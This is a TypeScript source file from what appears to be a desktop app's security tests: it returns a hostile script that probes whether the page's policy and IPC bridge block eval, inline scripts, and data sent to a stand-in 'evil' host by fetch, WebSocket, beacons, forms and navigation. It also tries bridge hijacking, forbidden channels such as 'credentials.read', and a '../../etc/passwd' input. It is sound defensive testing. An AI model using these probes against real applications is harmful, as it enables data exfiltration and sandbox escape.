/*
 * What a page of ours would try once someone else's script ran in it. Served as a script, because the policy allows no
 * other kind. It is text: nothing of it runs in the test's own process.
 */
export function hostileScript(evil: string): string {
  return `
const outcome = {};
const evil = ${JSON.stringify(evil)};
// What the policy stops may never tell; the bridge always answers.
const bridged = ['replace', 'unlisted', 'wrong input', 'subframe', 'own'];
const attempt = async (name, work) => {
  try {
    const value = await Promise.race([work(), new Promise((done) => setTimeout(() => done('no answer'), bridged.includes(name) ? 10000 : 800))]);
    outcome[name] = value === undefined ? 'done' : value;
  } catch (error) {
    outcome[name] = 'refused: ' + (error && error.name);
  }
};
const loads = (element, address) => new Promise((done) => {
  element.onload = () => done('LOADED');
  element.onerror = () => done('refused');
  Object.assign(element, address);
  document.body.append(element);
});
const run = async () => {
  await attempt('reach', async () => [typeof require, typeof process, typeof module, typeof ipcRenderer, Object.keys(window.bridge).sort().join()].join());
  await attempt('eval', async () => { (0, eval)('window.leaked = 1'); return window.leaked ? 'RAN' : 'refused'; });
  await attempt('function', async () => new Function('return "RAN"')());
  await attempt('inline', async () => { const s = document.createElement('script'); s.textContent = 'window.inline = 1'; document.body.append(s); return window.inline ? 'RAN' : 'refused'; });
  await attempt('fetch', async () => { await fetch(evil + 'fetch'); return 'SENT'; });
  await attempt('websocket', () => new Promise((done) => { const s = new WebSocket(evil.replace('http', 'ws') + 'ws'); s.onopen = () => done('SENT'); s.onerror = () => done('refused'); }));
  await attempt('events', () => new Promise((done) => { const s = new EventSource(evil + 'events'); s.onopen = () => done('SENT'); s.onerror = () => { s.close(); done('refused'); }; }));
  await attempt('beacon', async () => { navigator.sendBeacon(evil + 'beacon', 'x'); return 'tried'; });
  await attempt('image', () => loads(new Image(), { src: evil + 'image.png' }));
  await attempt('script', () => loads(document.createElement('script'), { src: evil + 'script.js' }));
  await attempt('style', () => loads(document.createElement('link'), { rel: 'stylesheet', href: evil + 'style.css' }));
  await attempt('frame', () => loads(document.createElement('iframe'), { src: evil + 'frame' }).then(() => 'tried'));
  await attempt('object', () => loads(document.createElement('object'), { data: evil + 'object' }));
  await attempt('worker', () => new Promise((done) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => done('RAN'); w.onerror = () => done('refused'); }));
  await attempt('form', async () => { const f = document.createElement('form'); f.action = evil + 'form'; f.method = 'post'; document.body.append(f); f.submit(); return 'tried'; });
  await attempt('window', async () => { window.open(evil + 'window'); return 'tried'; });
  await attempt('away', async () => { location.href = evil + 'away?' + document.title; return 'tried'; });
  await attempt('replace', async () => { try { window.bridge.call = () => 'mine'; } catch {} return window.bridge.call('snapshot.get', {}) === 'mine' ? 'REPLACED' : 'kept'; });
  await attempt('unlisted', async () => {
    const names = ['app.quit', 'shell.openExternal', 'fs.readFile', 'constructor', '__proto__', 'settings.get\\u0000', 'credentials.read', ['snapshot.get'], { toString: () => 'snapshot.get' }, null, 7];
    const answers = await Promise.all(names.map((name) => window.bridge.call(name, {})));
    return answers.every((answer) => answer.ok === false && answer.error.code === 'not-allowed') ? 'refused' : JSON.stringify(answers);
  });
  await attempt('wrong input', async () => {
    const inputs = [null, 7, 'x', [], { account: '../../etc/passwd' }, { account: {} }, { account: 'A', extra: 1 }, { __proto__: null, account: 7 }];
    const answers = await Promise.all(inputs.map((input) => window.bridge.call('account.drain', input)));
    return answers.every((answer) => answer.ok === false && answer.error.code === 'bad-input') ? 'refused' : JSON.stringify(answers);
  });
  await attempt('subframe', () => new Promise((done) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inner = frame.contentWindow.bridge;
    if (!inner) return done('has no bridge');
    inner.call('snapshot.get', {}).then((answer) => done(answer.ok ? 'ANSWERED' : 'refused'));
  }));
  await attempt('own', async () => ((await window.bridge.call('snapshot.get', {})).ok ? 'answered' : 'refused'));
  window.outcome = outcome;
};
window.addEventListener('load', run);
`;
}
